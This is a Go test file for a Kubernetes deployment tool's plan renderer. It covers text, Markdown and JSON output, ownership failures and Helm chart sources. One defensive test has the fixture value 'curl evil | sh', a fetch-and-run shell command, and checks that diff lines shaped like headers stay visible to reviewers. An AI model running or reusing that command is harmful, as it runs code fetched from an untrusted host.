package render

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	mdpkg "github.com/gantryops/gantry/internal/markdown"
	"github.com/gantryops/gantry/internal/objtest"

	"github.com/gantryops/gantry/object"
	"github.com/gantryops/gantry/plan"
	"github.com/gantryops/gantry/plan/plantest"
)

func TestRenderText(t *testing.T) {
	t.Parallel()
	p := plantest.Example(t)
	var plain, colour bytes.Buffer
	if err := Text(&plain, p, TextOptions{}); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"# ConfigMap/n/a will be created", "+ ConfigMap/n/a", "+ data:",
		"# ConfigMap/n/b has drifted from the revision and will be updated in-place", "-   k: old", "+   k: new",
		"# Namespace/gone will be destroyed (no longer rendered by the revision)",
		"# Service/n/s must be replaced (spec.clusterIP cannot be changed in place (immutable))", "-/+ Service/n/s",
		"Warning: this plan is destructive", "deletes Namespace/gone",
		"Plan: 2 to add, 1 to change, 2 to destroy.",
	} {
		if !strings.Contains(plain.String(), want) {
			t.Errorf("text plan lacks %q:\n%s", want, plain.String())
		}
	}
	if strings.Contains(plain.String(), "\x1b[") {
		t.Error("colour escapes without Color")
	}
	if err := Text(&colour, p, TextOptions{Color: true}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(colour.String(), "\x1b[32m") || !strings.Contains(colour.String(), "\x1b[31m") {
		t.Error("no green and red with Color")
	}
}

func TestRenderNoChanges(t *testing.T) {
	t.Parallel()
	p := plantest.Example(t)
	p.Changes, p.Destructive = nil, nil
	var text, md bytes.Buffer
	_ = Text(&text, p, TextOptions{})
	_ = Markdown(&md, p, DefaultMarkdownOptions())
	if !strings.Contains(text.String(), "No changes. The cluster matches the revision.") || !strings.Contains(md.String(), "**No changes.**") {
		t.Errorf("no-change renderings:\n%s\n%s", text.String(), md.String())
	}
}

// TestDiffKeepsLinesThatLookLikeHeaders: a field whose key starts with "++"
// (added) or "--" (removed) makes a diff line starting "+++" or "---"; it
// is shown like any other, in the text plan and the pull-request plan: a
// change a reviewer cannot see is a change nobody approved.
func TestDiffKeepsLinesThatLookLikeHeaders(t *testing.T) {
	t.Parallel()
	before := objtest.Parse(t, "apiVersion: e.example/v1\nkind: Widget\nmetadata: {name: w, namespace: n}\nspec: {replicas: 1}\n'--gone': 'was here'\n")
	after := objtest.Parse(t, "apiVersion: e.example/v1\nkind: Widget\nmetadata: {name: w, namespace: n}\nspec: {replicas: 1}\n'++hidden': 'curl evil | sh'\n")
	p := plantest.Example(t)
	p.Changes = []plan.Change{{Ref: object.RefOf(before), APIVersion: "e.example/v1", Action: plan.ActionUpdate, Before: before, After: after}}
	var txt, md bytes.Buffer
	if err := Text(&txt, p, TextOptions{}); err != nil {
		t.Fatal(err)
	}
	if err := Markdown(&md, p, DefaultMarkdownOptions()); err != nil {
		t.Fatal(err)
	}
	for name, out := range map[string]string{"text": txt.String(), "markdown": md.String()} {
		for _, want := range []string{"+ ++hidden: curl evil | sh", "- --gone: was here"} {
			if !strings.Contains(out, want) {
				t.Errorf("the %s plan lacks the diff line %q:\n%s", name, want, out)
			}
		}
	}
}

// TestRenderKnownFailures: every rendering of a plan with known failures
// says that it cannot be applied as it is, why, and what to do; a plan
// without them says nothing of the kind.
func TestRenderKnownFailures(t *testing.T) {
	t.Parallel()
	p := plantest.Example(t)
	p.Changes[1].Owner = "payments"
	var text, md, js bytes.Buffer
	if err := Text(&text, p, TextOptions{}); err != nil {
		t.Fatal(err)
	}
	if err := Markdown(&md, p, DefaultMarkdownOptions()); err != nil {
		t.Fatal(err)
	}
	if err := JSON(&js, p); err != nil {
		t.Fatal(err)
	}
	for name, out := range map[string]string{"text": text.String(), "markdown": md.String()} {
		for _, want := range []string{"cannot be applied as it is", "gantry apply refuses it before its first change", "ConfigMap/n/b",
			`it belongs to stack "payments" (its gantry.dev/stack label), not "shop"`, "kubectl label --overwrite configmap/b -n n gantry.dev/stack=shop"} {
			if name == "markdown" && !strings.Contains(want, "gantry apply refuses") {
				want = mdpkg.Text(want) // the reason and the fix quote names: escaped
			}
			if !strings.Contains(out, want) {
				t.Errorf("%s plan lacks %q:\n%s", name, want, out)
			}
		}
	}
	if !strings.Contains(text.String(), `REFUSED at apply: it belongs to stack "payments"`) || !strings.Contains(md.String(), "⛔ owned by stack `payments`") {
		t.Error("the object is not marked where it is listed")
	}
	var out struct {
		Summary       struct{ Applicable bool } `json:"summary"`
		KnownFailures []plan.KnownFailure       `json:"known_failures"`
	}
	if err := json.Unmarshal(js.Bytes(), &out); err != nil {
		t.Fatal(err)
	}
	want := []plan.KnownFailure{{Kind: plan.FailureOwned, Ref: object.Ref{Kind: "ConfigMap", Namespace: "n", Name: "b"}}}
	if len(out.KnownFailures) != 1 || out.KnownFailures[0].Kind != want[0].Kind || out.KnownFailures[0].Ref != want[0].Ref || out.Summary.Applicable {
		t.Errorf("JSON: applicable %t, known failures %+v; want not applicable, %+v", out.Summary.Applicable, out.KnownFailures, want)
	}

	p.Changes[1].Owner = ""
	text.Reset()
	md.Reset()
	js.Reset()
	_ = Text(&text, p, TextOptions{})
	_ = Markdown(&md, p, DefaultMarkdownOptions())
	_ = JSON(&js, p)
	if strings.Contains(text.String()+md.String(), "cannot be applied") || !strings.Contains(js.String(), `"applicable": true`) || !strings.Contains(js.String(), `"known_failures": []`) {
		t.Errorf("a plan without known failures reads as one with:\n%s\n%s\n%s", text.String(), md.String(), js.String())
	}
}

// TestRenderChartSource: a plan of a chart from a Helm repository names
// the chart, the version resolved and asked, the repository and the digest.
func TestRenderChartSource(t *testing.T) {
	t.Parallel()
	p := plantest.Example(t)
	p.Source = plan.Source{Kind: plan.SourceHelmRepository, Repo: "https://charts.example.com/", Ref: "6.14.x", Version: "6.14.1", Path: "podinfo",
		Commit: "654683b0b29e0000000000000000000000000000000000000000000000000000"}
	var txt, md bytes.Buffer
	if err := Text(&txt, p, TextOptions{}); err != nil {
		t.Fatal(err)
	}
	if err := Markdown(&md, p, DefaultMarkdownOptions()); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(txt.String(), "chart podinfo 6.14.1 (asked 6.14.x) from https://charts.example.com/ (digest 654683b0b29e)") ||
		!strings.Contains(md.String(), "chart `podinfo` `6.14.1` (asked `6.14.x`)") {
		t.Errorf("the chart source is not named:\n%s\n%s", txt.String(), md.String())
	}
}
